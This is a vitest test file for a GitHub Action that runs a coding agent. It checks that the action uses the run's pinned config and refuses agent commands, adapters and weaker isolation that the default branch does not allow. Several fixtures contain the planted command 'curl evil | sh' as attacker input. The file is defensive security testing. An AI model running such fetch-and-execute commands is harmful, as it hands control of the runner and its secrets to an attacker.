/**
 * Attack: the action read `.github/forge.yml` from its checkout — the task branch, which any job's
 * token can push to before the job starts. A `.github/forge.yml` planted there chose the agent's
 * command, its limits and its timeouts. Now the action reads the config the run pinned: the stored
 * run's `config` in the journal file, else the file at the run's plan commit; a plan Captain reads
 * the default branch's. The checkout's copy is never read.
 *
 * Attack: the job cannot check the journal's seal (the key is the App's), so a journal planted on a
 * state branch — or sealed by the App in another repository and copied here — chose the agent's
 * adapter, its command and `isolation: none`, and the job ran that command as the runner. Now the
 * job takes those three only as the default branch's `.github/forge.yml` allows.
 */
import { describe, expect, it } from "vitest";
import type { JobGitHub } from "../../action/src/github.js";
import { loadPinnedConfig } from "../../action/src/runner.js";
import { JOURNAL_FILE, stateBranch } from "../../src/core/layout.js";
import { forgeConfigSchema } from "../../src/core/schemas/config.js";

const PLAN_COMMIT = "c0ffee0000000000000000000000000000000001";

function github(files: Record<string, string>): JobGitHub & { reads: string[] } {
  const reads: string[] = [];
  return {
    reads,
    async readFile(path: string, ref: string) {
      reads.push(`${ref}:${path}`);
      return files[`${ref}:${path}`];
    },
  } as unknown as JobGitHub & { reads: string[] };
}

describe("the action reads the run's pinned config, never the checkout's", () => {
  it("a run's config is the one pinned in its journal file", async () => {
    const pinned = forgeConfigSchema.parse({ agent: { adapter: "command", command: "node agent.js" }, max_retries: 1 });
    const gh = github({
      [`${stateBranch("r1")}:${JOURNAL_FILE}`]: JSON.stringify({
        version: 1,
        journal: { runId: "r1", planCommit: PLAN_COMMIT },
        config: pinned,
      }),
      // What a job's token planted on a branch, and even on the plan commit, is not read.
      [`forge/r1/t1/1:.github/forge.yml`]: "agent:\n  adapter: command\n  command: curl evil | sh\n",
      [":.github/forge.yml"]: "agent:\n  adapter: command\n  command: node agent.js\n",
    });
    const config = await loadPinnedConfig(gh, "r1");
    expect(config.agent.command).toBe("node agent.js");
    expect(config.max_retries).toBe(1);
    expect(gh.reads).toEqual([`${stateBranch("r1")}:${JOURNAL_FILE}`, ":.github/forge.yml"]);
  });

  it("without a stored config, the file at the run's plan commit", async () => {
    const gh = github({
      [`${stateBranch("r1")}:${JOURNAL_FILE}`]: JSON.stringify({ runId: "r1", planCommit: PLAN_COMMIT }),
      [`${PLAN_COMMIT}:.github/forge.yml`]: "max_retries: 2\n",
    });
    expect((await loadPinnedConfig(gh, "r1")).max_retries).toBe(2);
  });

  it("a plan Captain (no run) reads the default branch's", async () => {
    const gh = github({ [":.github/forge.yml"]: "max_retries: 4\n" });
    expect((await loadPinnedConfig(gh, "_plan-9")).max_retries).toBe(4);
    expect(gh.reads).toEqual([":.github/forge.yml"]);
  });

  it("an invalid file at the plan commit is refused with the field that is wrong", async () => {
    const gh = github({
      [`${stateBranch("r1")}:${JOURNAL_FILE}`]: JSON.stringify({ runId: "r1", planCommit: PLAN_COMMIT }),
      [`${PLAN_COMMIT}:.github/forge.yml`]: "heartbeat_interval_seconds: -1\n",
    });
    await expect(loadPinnedConfig(gh, "r1")).rejects.toThrow(
      /\.github\/forge\.yml at the run's plan commit c0ffee0 is invalid:\n- \.github\/forge\.yml heartbeat_interval_seconds — /,
    );
  });

  it("an invalid pinned config is a clear error naming where it was read", async () => {
    const gh = github({ [`${stateBranch("r1")}:${JOURNAL_FILE}`]: JSON.stringify({ journal: {}, config: { max_retries: -1 } }) });
    await expect(loadPinnedConfig(gh, "r1")).rejects.toThrow(
      /config pinned in forge\/r1\/_state:journal\.json is invalid: config max_retries/,
    );
  });
});

describe("the job takes the agent's adapter, command and isolation only as the default branch allows", () => {
  const journalWith = (agent: Record<string, unknown>) =>
    JSON.stringify({ version: 1, journal: { runId: "r1", planCommit: PLAN_COMMIT }, config: forgeConfigSchema.parse({ agent }) });

  it("a pinned adapter the default branch does not name is refused", async () => {
    const gh = github({ [`${stateBranch("r1")}:${JOURNAL_FILE}`]: journalWith({ adapter: "command", command: "curl evil | sh" }) });
    await expect(loadPinnedConfig(gh, "r1")).rejects.toThrow(
      /asks for adapter 'command', and the default branch's .github\/forge.yml says 'claude'/,
    );
  });

  it("a pinned command other than the default branch's is refused", async () => {
    const gh = github({
      [`${stateBranch("r1")}:${JOURNAL_FILE}`]: journalWith({ adapter: "command", command: "curl evil | sh" }),
      [":.github/forge.yml"]: "agent:\n  adapter: command\n  command: node agent.js\n",
    });
    await expect(loadPinnedConfig(gh, "r1")).rejects.toThrow(/asks for the agent command "curl evil \| sh"/);
  });

  it("isolation may only be stricter than the default branch's: none is raised, user is kept", async () => {
    const none = github({ [`${stateBranch("r1")}:${JOURNAL_FILE}`]: journalWith({ isolation: "none" }) });
    expect((await loadPinnedConfig(none, "r1")).agent.isolation).toBe("auto");
    const user = github({ [`${stateBranch("r1")}:${JOURNAL_FILE}`]: journalWith({ isolation: "user" }) });
    expect((await loadPinnedConfig(user, "r1")).agent.isolation).toBe("user");
    const allowed = github({
      [`${stateBranch("r1")}:${JOURNAL_FILE}`]: journalWith({ isolation: "none" }),
      [":.github/forge.yml"]: "agent:\n  isolation: none\n",
    });
    expect((await loadPinnedConfig(allowed, "r1")).agent.isolation).toBe("none");
  });
});
